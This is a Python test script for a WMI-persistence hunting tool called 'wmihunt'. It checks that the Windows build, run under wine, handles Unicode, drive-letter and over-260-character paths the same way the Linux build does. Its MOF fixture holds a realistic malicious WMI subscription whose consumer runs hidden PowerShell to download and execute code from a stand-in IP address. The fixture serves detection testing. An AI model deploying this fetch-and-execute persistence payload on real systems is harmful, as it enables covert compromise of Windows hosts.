#!/usr/bin/env python3
"""wmihunt.exe (make windows) under wine on what only Windows paths have:
a drive letter and backslashes, names in other scripts (UTF-16 on
Windows), a path longer than MAX_PATH (260), output written to a file.
`hunt --format jsonl` gives the Linux build's rows on the same tree, and
the Unicode names come out as UTF-8.

usage: test_windows_paths.py WMIHUNT EXE GEN_DIR TESTS_DIR SCRATCH
Prints "skipped: ..." and exits 0 without the exe or wine.
"""
import json
import os
import time
import shutil
import subprocess
import sys

FAILS = []

MOF = r'''#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $F
{
    Name = "Ünïcødé ☃ filter";
    EventNamespace = "root\\cimv2";
    QueryLanguage = "WQL";
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
};
instance of CommandLineEventConsumer as $C
{
    Name = "日本語 consumer";
    CommandLineTemplate = "powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"";
};
instance of __FilterToConsumerBinding
{
    Filter = $F;
    Consumer = $C;
};
'''


def check(ok, what):
    print(("ok: " if ok else "FAIL: ") + what)
    if not ok:
        FAILS.append(what)


def main(argv):
    if len(argv) != 6:
        print(__doc__)
        return 64
    wm, exe, gen, tests, scratch = (os.path.abspath(a) for a in argv[1:6])
    if not os.path.exists(exe):
        print("skipped: no %s ('make windows' builds it)" % exe)
        return 0
    wine = shutil.which("wine")
    if not wine:
        print("skipped: no wine (scripts/install-deps.sh installs it)")
        return 0
    env = dict(os.environ, WINEDEBUG="-all", LANG="C.UTF-8", LC_ALL="C.UTF-8",
               WINEPREFIX=os.path.join(os.path.dirname(exe), "wine"))
    base = os.path.join(scratch, "winpaths-%d" % os.getpid())
    shutil.rmtree(base, ignore_errors=True)
    # A folder name in three scripts, then enough levels for > 260 characters.
    deep = os.path.join(base, "Évidence – 証拠 – доказательство")
    while len(deep) < 300:
        deep = os.path.join(deep, "collection-level-%02d" % (len(deep) % 97))
    os.makedirs(deep)
    tree = os.path.join(deep, "WS-ÜNÏ")
    subprocess.run([sys.executable, os.path.join(tests, "gen", "casegen.py"), "--gen", gen, "demo", tree + ".tmp"],
                   check=True, stdout=subprocess.DEVNULL)
    # casegen writes hosts below its OUT; the demo's one host is the tree.
    hosts = [d for d in sorted(os.listdir(tree + ".tmp")) if os.path.isdir(os.path.join(tree + ".tmp", d))]
    shutil.move(os.path.join(tree + ".tmp", hosts[0]), tree)
    mofdir = os.path.join(tree, "C", "Windows", "Temp", "Ünïcødé ☃")
    os.makedirs(mofdir, exist_ok=True)
    mof = os.path.join(mofdir, "évil ☃ 日本.mof")
    with open(mof, "w", encoding="utf-8") as f:
        f.write(MOF)
    check(len(mof) > 260, "the MOF's path is %d characters (over MAX_PATH)" % len(mof))
    # Access times an hour ahead: wine's reads (the kernel's, without
    # O_NOATIME) then leave them on relatime mounts, and both builds see the
    # same times (corpus_runs.py does the same).
    later = int(time.time()) + 3600
    for d, subs, files in os.walk(tree, topdown=False):
        for n in files + subs:
            st = os.lstat(os.path.join(d, n))
            os.utime(os.path.join(d, n), (later, st.st_mtime), follow_symlinks=False)
    winpath = lambda p: "Z:" + p.replace("/", "\\")

    # ---- mof: a file given by its long, Unicode, drive-letter path ----
    lin = subprocess.run([wm, "mof", "--format", "jsonl", mof], capture_output=True)
    win = subprocess.run([wine, exe, "mof", "--format", "jsonl", winpath(mof)], capture_output=True, env=env, timeout=600)
    check(win.returncode == lin.returncode == 0, "mof: exit %d under wine, %d on Linux (%r)"
          % (win.returncode, lin.returncode, win.stderr[-300:]))
    names = [json.loads(l).get("name") for l in win.stdout.decode("utf-8", "replace").splitlines() if l.strip()]
    check("Ünïcødé ☃ filter" in str(win.stdout, "utf-8", "replace") and "日本語 consumer" in str(win.stdout, "utf-8", "replace"),
          "mof: the instances' Unicode names come out as UTF-8 (%s)" % names[:4])
    norm = lambda b: b.replace(json.dumps(winpath(mof))[1:-1].encode(), json.dumps(mof)[1:-1].encode())
    strip_times = lambda rows: [{k: v for k, v in json.loads(r).items() if k not in ("source", "path", "file")}
                                for r in rows.splitlines() if r.strip()]
    check(strip_times(norm(win.stdout)) == strip_times(lin.stdout), "mof: the same records as the Linux build")

    # ---- hunt: the whole tree, given as Z:\...\WS-ÜNÏ, the report to a file ----
    out = os.path.join(base, "rapport été.jsonl")
    lin = subprocess.run([wm, "hunt", "--no-progress", "--threads", "1", "--format", "jsonl", tree], capture_output=True)
    win = subprocess.run([wine, exe, "hunt", "--no-progress", "--threads", "2", "--format", "jsonl", "--output",
                          winpath(out), winpath(tree)], capture_output=True, env=env, timeout=600)
    check(win.returncode == lin.returncode and win.returncode in (1, 4), "hunt: exit %d under wine, %d on Linux (%r)"
          % (win.returncode, lin.returncode, win.stderr[-400:]))
    got = open(out, "rb").read() if os.path.exists(out) else b""
    check(got != b"" and win.stdout == b"", "hunt --output wrote the report to the file named in Unicode")
    # The given path is the only difference: Z:\...\WS-ÜNÏ (JSON-escaped) for /.../WS-ÜNÏ.
    lw = json.dumps(winpath(tree), ensure_ascii=False)[1:-1].encode()
    ll = json.dumps(tree, ensure_ascii=False)[1:-1].encode()
    same = got.replace(lw, ll) == lin.stdout
    if not same:
        a, b = got.replace(lw, ll), lin.stdout
        at = next((i for i in range(min(len(a), len(b))) if a[i] != b[i]), min(len(a), len(b)))
        print("first difference at byte %d: %r / %r" % (at, a[at:at + 120], b[at:at + 120]))
    check(same, "hunt: the rows equal the Linux build's, byte for byte, once the given path is the same")
    rows = [json.loads(l) for l in got.decode("utf-8").splitlines()]
    cases = [r for r in rows if r.get("artifact") == "hunt.case"]
    check(any("日本語 consumer" in json.dumps(c, ensure_ascii=False) for c in cases),
          "hunt: a case names the consumer from the Unicode-named MOF")
    check(any("évil ☃ 日本.mof" in json.dumps(r, ensure_ascii=False) for r in rows if r.get("artifact") == "hunt.file"),
          "hunt: the MOF's name is in the evidence list, in UTF-8")

    # ---- errors name the path as given, and what to do ----
    p = subprocess.run([wine, exe, "hunt", "--no-progress", winpath(os.path.join(base, "nowhere ☃"))],
                       capture_output=True, env=env, timeout=600)
    check(p.returncode == 2 and "nowhere ☃" in p.stderr.decode("utf-8", "replace"),
          "hunt on a missing folder: exit 2 and the name in the message (%d, %r)" % (p.returncode, p.stderr[-200:]))
    shutil.rmtree(base, ignore_errors=True)
    print("%d check(s) failed" % len(FAILS) if FAILS else "all checks passed")
    return 1 if FAILS else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
